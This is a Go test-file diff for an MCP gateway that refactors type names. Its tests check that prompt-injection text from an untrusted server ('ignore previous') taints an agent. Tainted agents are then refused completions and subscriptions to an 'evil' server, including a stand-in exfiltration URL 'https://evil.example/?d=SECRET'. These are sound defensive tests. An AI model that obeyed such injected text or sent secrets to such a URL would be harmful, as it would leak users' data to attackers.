@@ -6,6 +6,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/airlock-mcp/airlock/internal/model"
+
 	"github.com/modelcontextprotocol/go-sdk/mcp"
 
 	"github.com/airlock-mcp/airlock/internal/sessiontest"
@@ -28,8 +30,8 @@ func TestChannels_UntrustedCompletionErrorTaints(t *testing.T) {
 		return &mcp.GetPromptResult{}, nil
 	})
 	m := sessiontest.ChannelManager(t, session.Options{}, map[string]*mcp.Server{"notes": srv}, sessiontest.InProcServer("notes", trust.Untrusted, nil))
-	sessiontest.MustServer(t, m, "notes", session.StatusReady)
-	_, err := m.Complete(context.Background(), session.CompleteRequest{Context: "agent-1", Server: "notes", Prompt: "summarise", Argument: "topic", Value: "x"})
+	sessiontest.MustServer(t, m, "notes", model.StatusReady)
+	_, err := m.Complete(context.Background(), model.CompleteRequest{Context: "agent-1", Server: "notes", Prompt: "summarise", Argument: "topic", Value: "x"})
 	if err == nil || !strings.Contains(err.Error(), "ignore previous") {
 		t.Fatalf("err = %v, want the server's error", err)
 	}
@@ -58,20 +60,20 @@ func TestChannels_TaintedAgentCompletionToExfiltratingServerRefused(t *testing.T
 	})
 	m := sessiontest.ChannelManager(t, session.Options{}, map[string]*mcp.Server{"notes": srv, "evil": srv2},
 		sessiontest.InProcServer("notes", trust.Untrusted, nil), sessiontest.InProcServer("evil", trust.Untrusted, nil))
-	sessiontest.MustServer(t, m, "notes", session.StatusReady)
-	sessiontest.MustServer(t, m, "evil", session.StatusReady)
+	sessiontest.MustServer(t, m, "notes", model.StatusReady)
+	sessiontest.MustServer(t, m, "evil", model.StatusReady)
 	ctx := context.Background()
 	// Before any taint, a completion runs.
-	if _, err := m.Complete(ctx, session.CompleteRequest{Context: "agent-1", Server: "evil", Prompt: "p", Argument: "a", Value: "clean"}); err != nil {
+	if _, err := m.Complete(ctx, model.CompleteRequest{Context: "agent-1", Server: "evil", Prompt: "p", Argument: "a", Value: "clean"}); err != nil {
 		t.Fatalf("a clean context's completion: %v", err)
 	}
 	<-seen
-	sessiontest.AnswerWith(t, m, session.Response{Answer: session.AllowOnce})
-	if _, err := m.ReadResource(ctx, session.ReadRequest{Context: "agent-1", Server: "notes", URI: "notes://inbox"}); err != nil {
+	sessiontest.AnswerWith(t, m, model.Response{Answer: model.AllowOnce})
+	if _, err := m.ReadResource(ctx, model.ReadRequest{Context: "agent-1", Server: "notes", URI: "notes://inbox"}); err != nil {
 		t.Fatal(err)
 	}
-	_, err := m.Complete(ctx, session.CompleteRequest{Context: "agent-1", Server: "evil", Prompt: "p", Argument: "a", Value: "SECRET"})
-	var denied *session.DeniedError
+	_, err := m.Complete(ctx, model.CompleteRequest{Context: "agent-1", Server: "evil", Prompt: "p", Argument: "a", Value: "SECRET"})
+	var denied *model.DeniedError
 	if !errors.As(err, &denied) {
 		t.Fatalf("a tainted agent's completion to an untrusted server: err %v, want a denial", err)
 	}
@@ -88,7 +90,7 @@ func TestChannels_TaintedAgentCompletionToExfiltratingServerRefused(t *testing.T
 // subscription is refused and the server never sees the URI.
 func TestRelay_TaintedAgentSubscribeToUntrustedServerRefused(t *testing.T) {
 	f := startRelay(t, trust.Untrusted, nil)
-	sessiontest.AnswerWith(t, f.m, session.Response{Answer: session.AllowOnce})
+	sessiontest.AnswerWith(t, f.m, model.Response{Answer: model.AllowOnce})
 	ctx := context.Background()
 	// Clean: a subscription to beta runs.
 	if err := f.cs.Subscribe(ctx, &mcp.SubscribeParams{URI: gateway.RelayURI("beta", "test://same/readme")}); err != nil {
@@ -153,7 +155,7 @@ func TestChannels_SubscribeAgentKeepsTheRulesInTheManager(t *testing.T) {
 		return &mcp.ReadResourceResult{Contents: []*mcp.ResourceContents{{URI: req.Params.URI, Text: "x"}}}, nil
 	})
 	m := sessiontest.ChannelManager(t, session.Options{}, map[string]*mcp.Server{"evil": evil}, sessiontest.InProcServer("evil", trust.Untrusted, nil))
-	sessiontest.MustServer(t, m, "evil", session.StatusReady)
+	sessiontest.MustServer(t, m, "evil", model.StatusReady)
 	ctx := context.Background()
 
 	if err := m.SubscribeAgent(ctx, "agent-1", "a", "evil", "test://readme"); err != nil {
@@ -167,7 +169,7 @@ func TestChannels_SubscribeAgentKeepsTheRulesInTheManager(t *testing.T) {
 	if !m.Engine().Taint("agent-2").Tainted() {
 		t.Fatal("the server's error message reached agent-2 without tainting it")
 	}
-	var denied *session.DeniedError
+	var denied *model.DeniedError
 	if err := m.SubscribeAgent(ctx, "agent-2", "b", "evil", "https://evil.example/?d=SECRET"); !errors.As(err, &denied) {
 		t.Fatalf("a tainted context's subscription to an untrusted server: err %v, want a denial", err)
 	}
